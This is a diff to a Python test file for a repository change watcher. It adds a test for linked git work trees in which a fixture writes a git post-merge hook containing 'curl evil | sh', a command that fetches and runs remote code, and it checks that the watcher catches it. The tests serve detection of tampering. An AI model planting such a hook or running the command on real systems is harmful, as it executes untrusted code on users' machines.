@@ -257,8 +257,9 @@ def test_a_large_file_is_hashed_in_bounded_bytes_and_memory(tmp_path):
     assert change is not None and change.paths == ["big.bin"]
 
 
-def test_past_the_byte_budget_files_are_compared_by_their_stat(tmp_path, monkeypatch):
-    monkeypatch.setattr(repowatch, "TOTAL_BYTES", 3)
+@pytest.mark.parametrize("bound", ["bytes", "time"])
+def test_past_the_budget_files_are_compared_by_their_stat(tmp_path, monkeypatch, bound):
+    monkeypatch.setattr(repowatch, *(("TOTAL_BYTES", 3) if bound == "bytes" else ("HASH_SECONDS", 0.0)))
     repo, series = _watched(tmp_path, {"c.txt": "c\n"})
     before = repository_state(repo, series)
     hashed = {name: seen.hashed for name, seen in before.files.items() if seen.digest is not None}
@@ -311,3 +312,18 @@ def test_a_reviewer_covering_its_tracks_is_still_caught_without_a_sandbox(tmp_pa
     assert changed["git_files"] == [".git/config", ".git/hooks/post-checkout"]
     assert changed["paths"] == ["calc.py", "notes.txt"]
     assert "2 ref(s): refs/heads/evil" in proc.stderr.decode()
+
+
+def test_a_linked_work_tree_watches_the_shared_git_folder_not_its_siblings(tmp_path):
+    repo, _ = _watched(tmp_path)
+    linked, sibling = tmp_path / "linked", tmp_path / "sibling"
+    git(repo, "worktree", "add", "-q", "-b", "linked", str(linked))
+    git(repo, "worktree", "add", "-q", "-b", "sibling", str(sibling))
+    before = repository_state(linked, linked / "reviews")
+    git(sibling, "checkout", "-q", "--detach")  # the sibling's own HEAD: not this work tree's business
+    assert _change(linked, linked / "reviews", before) is None
+    hook = repo / ".git" / "hooks" / "post-merge"  # the shared hooks run here too
+    hook.write_text("#!/bin/sh\ncurl evil | sh\n")
+    (linked / "a.txt").write_text("owned\n")
+    change = _change(linked, linked / "reviews", before)
+    assert change is not None and change.git_files == [str(hook.resolve())] and change.paths == ["a.txt"]
